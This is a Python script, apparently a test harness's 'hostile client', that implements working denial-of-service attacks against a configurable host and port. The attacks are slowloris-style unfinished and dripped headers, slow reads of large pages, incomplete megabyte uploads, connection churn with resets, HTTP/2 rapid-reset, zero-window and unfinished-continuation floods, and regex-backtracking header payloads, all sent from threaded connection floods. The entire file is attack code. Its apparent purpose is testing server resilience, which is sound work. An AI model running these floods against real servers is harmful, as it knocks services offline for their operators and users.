"""A hostile client: `python floods.py '{"attack": "heads", "host": "nginx", "port": 8080, …}'`.

Tests run it in containers, so that each has an address of its own. Standard library only.
"""

import itertools
import json
import socket
import ssl
import struct
import sys
import time
from concurrent.futures import ThreadPoolExecutor
from contextlib import suppress

HOST = b"Host: localhost\r\n"
GET = b"GET / HTTP/1.1\r\n" + HOST
BIG_PAGE = "/faults/text"
UPLOAD = b"POST /faults/upload HTTP/1.1\r\n" + HOST
MEGABYTE = 1 << 20
FIELD = b"X-A: " + b"x" * 7_900 + b"\r\n"

HEADS = {  # none of them ends
    "few large fields": GET + FIELD * 3 + b"X-A: " + b"x" * 6_000,
    "many small fields": GET + b"X-A: 1\r\n" * 3_700,
    "shortest fields": GET + b"a:\r\n" * 4_000,
    "one endless field": GET + b"X-A: " + b"x" * 900_000,
    "endless fields": GET + FIELD * 110,
    "HTTP/1.0": b"GET / HTTP/1.0\r\n" + FIELD * 3 + b"X-A: " + b"x" * 6_000,
    "behind a whole request": GET + b"\r\n" + GET + FIELD * 3 + b"X-A: " + b"x" * 6_000,
    "drip": GET + FIELD * 2,
    "nothing": b"",
}
POSITIONS = {  # where 7,900 characters stand
    "path": b"GET /%s HTTP/1.1\r\n" + HOST,
    "query": b"GET /static/style.css?%s HTTP/1.1\r\n" + HOST,
    "host": b"GET / HTTP/1.1\r\nHost: %s\r\n",
    "referer": GET + b"Referer: %s\r\n",
    "forwarded": GET + b"X-Forwarded-For: %s\r\n",
    "agent": b"GET / HTTP/1.0\r\n" + HOST + b"User-Agent: %s\r\n",
}


class Flood:
    """Connections to one server, which stay open until the end of the program."""

    def __init__(self, host, port, seconds, **options):
        self.address, self.secure = (socket.gethostbyname(host), port), port == 443
        self.context = ssl._create_unverified_context()
        self.seconds, self.end = seconds, time.monotonic() + seconds
        self.options, self.clients, self.sent = options, [], []

    def connect(self, protocol="http/1.1", window=None):
        client = socket.socket()
        if window:
            client.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, window)
        client.settimeout(2)
        client.connect(self.address)
        if self.secure:
            self.context.set_alpn_protocols([protocol])
            client = self.context.wrap_socket(client, server_hostname="localhost")
        self.clients.append(client)
        return client

    def send(self, data, **how):
        """Send on a new connection what the server accepts within two seconds."""
        with suppress(OSError):
            client = self.connect(**how)
            client.sendall(data)
            self.sent.append(client)

    def at_once(self, data):
        """Send ``data`` on many connections from 16 threads, for 12 seconds at most."""
        latest = time.monotonic() + 12
        with ThreadPoolExecutor(16) as pool:
            for _ in range(self.options["number"]):
                pool.submit(lambda: time.monotonic() < latest and self.send(data))
        self.end = time.monotonic() + self.seconds

    def steadily(self):
        """Yield at each moment at which a request is due."""
        begun = time.monotonic()
        for number in itertools.count():
            time.sleep(max(0, begun + number / self.options["rate"] - time.monotonic()))
            if time.monotonic() > self.end:
                return
            yield

    def stay(self):
        time.sleep(max(0, self.end - time.monotonic()))


def expression(flood):
    """Send text that an expression with two repetitions of the same characters reads slowly."""
    filler = flood.options["filler"].encode()
    text = filler * (7_900 // len(filler)) + b"\xff"
    head = POSITIONS[flood.options["position"]] % text
    with ThreadPoolExecutor(4) as pool:
        for _ in flood.steadily():
            pool.submit(flood.send, head + b"Connection: close\r\n\r\n")


def heads(flood):
    flood.at_once(HEADS[flood.options["head"]])
    while flood.options["head"] == "drip" and time.monotonic() < flood.end:
        for client in flood.clients:
            with suppress(OSError):
                client.send(b"x")
        time.sleep(1)


def readers(flood):
    """Ask for a large page, and do not read it."""
    coding = b"Accept-Encoding: gzip\r\n" if flood.options["gzip"] else b""
    for _ in flood.steadily():
        flood.send(f"GET {BIG_PAGE} HTTP/1.1\r\n".encode() + HOST + coding + b"\r\n", window=4_096)


def uploads(flood):
    """Send bodies of a megabyte without their last byte."""
    if flood.options["chunked"]:
        body = b"Transfer-Encoding: chunked\r\n\r\n100000\r\n" + bytes(MEGABYTE - 1)
    else:
        body = f"Content-Length: {MEGABYTE}\r\n\r\n".encode() + bytes(MEGABYTE - 1)
    flood.at_once(UPLOAD + body)


def churn(flood):
    """Open connections, and close them at once, every other one with a reset."""
    for number, _ in enumerate(flood.steadily()):
        with suppress(OSError), socket.create_connection(flood.address, timeout=2) as client:
            linger = struct.pack("ii", number % 2, 0)
            client.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, linger)


def frame(kind, flags, stream, data=b""):
    """Return a frame of HTTP/2 (RFC 9113, 4.1)."""
    return struct.pack(">I", len(data))[1:] + struct.pack(">BBI", kind, flags, stream) + data


def literal(index, value):
    """Return a field of HPACK with a name from the static table (RFC 7541, 6.2.1)."""
    return bytes([0x40 | index, len(value)]) + value


def http2(flood):
    """Send many streams on few connections: HEADERS, and RST_STREAM or a window of zero."""
    fields = b"\x82\x87" + literal(1, b"localhost") + literal(4, BIG_PAGE.encode())
    window = struct.pack(">HI", 4, 0)  # SETTINGS_INITIAL_WINDOW_SIZE
    begin = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, window)
    streams = {
        "resets": lambda n: frame(1, 5, n, fields) + frame(3, 0, n, bytes(4)),
        "no window": lambda n: frame(1, 5, n, fields),
        "no end": lambda n: (
            frame(1, 0, n, fields) if n == 1 else frame(9, 0, 1, b"\x40\x01a\x7f" + b"\x00" * 126)
        ),
    }[flood.options["streams"]]
    count = flood.options["number"]
    data = begin + b"".join(streams(2 * n + 1) for n in range(count))
    for _ in flood.steadily():
        flood.send(data, protocol="h2")


ATTACKS = {f.__name__: f for f in (expression, heads, readers, uploads, churn, http2)}


if __name__ == "__main__":
    chosen = json.loads(sys.argv[1])
    attack = ATTACKS[chosen.pop("attack")]
    flood = Flood(**chosen)
    attack(flood)
    flood.stay()
    print(f"{len(flood.sent)} of {len(flood.clients)} sent")
